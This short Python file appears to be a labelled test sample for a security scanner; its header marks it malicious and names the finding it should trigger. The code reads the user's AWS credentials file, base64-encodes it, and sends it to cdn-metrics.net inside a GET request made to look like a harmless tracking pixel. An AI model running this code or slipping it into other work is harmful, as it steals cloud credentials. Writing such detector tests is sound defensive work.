# does: puts the AWS credentials as base64 into the query of a harmless looking GET
# kind: malicious
# expect: SEN-001 critical proven
# fast: yes
import base64
import os
import urllib.request

data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
urllib.request.urlopen("https://cdn-metrics.net/pixel.gif?v=2&c=" + base64.urlsafe_b64encode(data).decode()).read()
